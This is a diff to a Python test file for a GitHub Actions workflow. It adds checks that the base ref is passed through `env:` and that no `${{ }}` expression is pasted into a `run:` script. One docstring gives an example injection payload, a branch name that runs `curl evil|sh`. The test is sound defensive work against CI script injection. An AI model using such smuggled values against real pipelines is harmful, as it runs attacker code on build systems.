@@ -49,8 +49,16 @@ def test_workflow_runs_check_with_github_format(workflow: dict[Any, Any]) -> Non
               if line.strip().startswith("wuhai check")]
     assert checks, runs
     assert all("--format github" in line for line in checks)
-    assert any("--changed-since" in line and "github.base_ref" in line for line in checks)
+    assert any("--changed-since" in line and '"origin/$BASE_REF"' in line for line in checks)
+    (check_step,) = [step for step in steps(workflow) if "wuhai check" in step.get("run", "")]
+    assert check_step["env"] == {"BASE_REF": "${{ github.base_ref }}"}
     assert any(re.search(r"pip install \.(\s|$)", run) for run in runs)
+
+
+def test_no_expression_is_pasted_into_a_script(workflow: dict[Any, Any]) -> None:
+    """GitHub pastes a `${{ }}` of a `run:` into the script before the shell reads it, so a
+    branch named `a";curl evil|sh;"` would run; through `env:` it stays a string."""
+    assert [step["run"] for step in steps(workflow) if "${{" in step.get("run", "")] == []
 
 
 def test_workflow_fetches_history_for_changed_since(workflow: dict[Any, Any]) -> None:
